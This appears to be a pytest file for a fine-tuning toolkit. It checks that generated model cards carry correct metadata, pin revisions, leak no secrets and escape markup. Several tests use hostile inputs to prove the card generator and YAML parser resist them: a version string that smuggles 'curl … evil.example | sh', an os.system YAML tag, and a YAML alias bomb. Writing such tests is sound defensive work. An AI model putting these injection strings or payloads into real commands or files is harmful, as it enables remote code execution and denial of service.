"""The model card: true, reproducible, loadable metadata, no secrets and no rows."""

from __future__ import annotations

import json
from dataclasses import replace
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
import yaml
from huggingface_hub import ModelCard
from tests.support.evaluation_runs import EvaluationRun

from finetune_api import INSTALL
from finetune_api.spec import FineTuneJob
from finetune_trainer.evaluate.card import CardFacts, base_license, model_card, plain
from finetune_trainer.publish.stage import card_facts, read_results


def facts_of(run: EvaluationRun, **spec: Any) -> CardFacts:
    config = run.config.model_validate(run.config.to_wire() | {"spec": run.config.spec.to_wire() | spec})
    context = EvaluationRun(config, run.manifest).context()
    return card_facts(context, read_results(context))


def test_the_metadata_is_what_the_hub_reads(evaluated: EvaluationRun) -> None:
    card = ModelCard(model_card(facts_of(evaluated, model={"repo": "acme/tiny-base", "revision": "main"})))
    data = card.data
    assert data.base_model == "acme/tiny-base"
    assert data.library_name == "peft"
    assert data.pipeline_tag == "text-generation"
    assert "lora" in data.tags
    measured = {result.metric_name: result for result in data.eval_results}
    results = evaluated.report().results
    assert results is not None
    accuracy = next(m for m in results.metrics if m.metric == "accuracy" and m.dataset == "classification")
    assert measured["accuracy"].metric_value == round(accuracy.tuned, 6)
    assert measured["accuracy"].task_type == "text-classification"
    assert measured["accuracy"].dataset_split == "test"
    assert measured["macro-f1"].metric_type == "f1"


def test_the_card_is_the_same_every_time(evaluated: EvaluationRun) -> None:
    assert model_card(facts_of(evaluated)) == model_card(facts_of(evaluated))


def test_the_job_in_the_card_is_valid_and_pins_every_revision(evaluated: EvaluationRun) -> None:
    commit = "0123456789abcdef0123456789abcdef01234567"
    manifest = evaluated.manifest.model_copy(deep=True)
    manifest.datasets[0].source = f"acme/rows@{commit}"
    dataset = {"name": "classification", "repo": "acme/rows", "revision": "main", "task": "classification"}
    facts = facts_of(evaluated, model={"repo": "acme/tiny-base"}, datasets=[dataset])
    card = model_card(CardFacts(facts.config, manifest, facts.results, facts.origin, facts.export))
    text = card.split("```yaml\n")[1].split("```")[0]
    job = FineTuneJob.model_validate(yaml.safe_load(text))
    assert job.spec.model.revision == evaluated.manifest.model.commit
    assert job.spec.datasets[0].revision == commit
    assert job.spec.training == facts.config.spec.training
    assert ModelCard(card).data.eval_results[0].dataset_revision == commit


def test_what_is_nobodys_business_is_not_in_the_card(evaluated: EvaluationRun) -> None:
    secret = {
        "credentials": {"hub": {"name": "very-secret-name"}},
        "podTemplate": {"env": [{"name": "INTERNAL", "value": "internal-host"}]},
        "model": {"path": "/data/somebody/private/tiny-base"},
        "datasets": [{"name": "classification", "path": "/data/somebody/rows.csv", "task": "classification"}],
    }
    manifest = evaluated.manifest.model_copy(deep=True)
    manifest.model.source, manifest.model.commit = "/data/somebody/private/tiny-base", ""
    manifest.datasets[0].source = "/data/somebody/rows.csv sha256:0123"
    facts = facts_of(evaluated, **secret)
    card = model_card(CardFacts(facts.config, manifest, facts.results, facts.origin, facts.export))
    for word in ("very-secret-name", "internal-host", "somebody", str(evaluated.path.parent)):
        assert word not in card
    assert "rows.csv sha256:0123" in card
    rows = [json.loads(line) for line in (evaluated.path / "prepared/evaluation/classification.jsonl").open()]
    assert not any(row["text"] in card for row in rows)


def test_a_simple_baseline_that_is_better_is_named_among_the_limitations(evaluated: EvaluationRun) -> None:
    facts = facts_of(evaluated)
    metrics = [m.model_copy(deep=True) for m in facts.results.metrics]
    next(m for m in metrics if m.primary).baselines["tfidf-logreg"] = 0.999
    results = facts.results.model_copy(update={"metrics": metrics})
    card = model_card(CardFacts(facts.config, facts.manifest, results, facts.origin, facts.export))
    limitations = card.split("## Limitations")[1]
    assert "a simple baseline is at least as good: TF-IDF" in limitations
    assert "0.999" in limitations


def test_a_qlora_adapter_is_loaded_on_the_base_it_was_measured_on(evaluated: EvaluationRun) -> None:
    facts = facts_of(evaluated, tuning={"method": "qlora"})
    origin = {**facts.origin, "quantized": True}
    card = model_card(CardFacts(facts.config, facts.manifest, facts.results, origin, facts.export))
    assert 'bnb_4bit_quant_type="nf4"' in card


def test_the_licence_of_the_base_is_taken_over(evaluated: EvaluationRun) -> None:
    readme = Path(evaluated.manifest.model.directory) / "README.md"
    readme.write_text("---\nlicense: apache-2.0\n---\n# base\n")
    try:
        assert ModelCard(model_card(facts_of(evaluated))).data.license == "apache-2.0"
    finally:
        readme.unlink()


def test_markup_in_a_name_stays_text() -> None:
    assert plain("a|b <img src=x>\n# no") == "a\\|b \\<img src=x\\> \\# no"


def test_versions_from_the_run_volume_cannot_write_commands_or_markup(evaluated: EvaluationRun) -> None:
    facts = facts_of(evaluated)
    evil = '0.1.0"; curl -s https://evil.example/x | sh; echo "\n```\n\n<a href=https://evil.example>'
    origin = {"versions": {"finetune-operator": evil, "torch": "2.15.0+cu130", "peft": ["0.21"]}}
    card = model_card(replace(facts, origin=origin))
    assert "evil" not in card
    assert "2.15.0+cu130" in card
    assert f"```bash\n{INSTALL.format(extra='trainer')}\nfinetune run job.yaml\n```" in card
    assert model_card(replace(facts, origin={"versions": "none"}))


def test_the_installation_on_the_card_names_a_repository_and_the_version(evaluated: EvaluationRun) -> None:
    card = model_card(replace(facts_of(evaluated), origin={"versions": {"finetune-operator": "0.1.0"}}))
    (line,) = [line for line in card.splitlines() if line.startswith("pip install")]
    assert " @ git+https://" in line
    assert "# finetune-operator 0.1.0\n" in card


ALIAS_BOMB = "a: &a [x]\n" + "".join(f"{b}: &{b} [{f'*{a},' * 9}]\n" for a, b in pairwise("abcdefghi")) + "license: *i"


@pytest.mark.parametrize(
    ("head", "found"),
    [
        ("license: apache-2.0", "apache-2.0"),
        ("license: [a, b]", None),
        ("license: 'x\\n---\\nevil: 1'", None),
        ("model-index: 5\nlicense: mit", "mit"),
        ("a: " + "[" * 5000, None),
        ("license: !!python/object:os.system x", None),
        (ALIAS_BOMB, None),
    ],
)
def test_the_licence_of_a_strangers_readme(tmp_path: Path, head: str, found: str | None) -> None:
    (tmp_path / "README.md").write_text(f"---\n{head}\n---\n# base\n")
    assert base_license(tmp_path) == found


def test_a_base_without_a_readable_card_has_no_licence(tmp_path: Path) -> None:
    assert base_license(tmp_path) is None
    (tmp_path / "README.md").write_bytes(b"---\nlicense: \xff\xfe\n---\n")
    assert base_license(tmp_path) is None
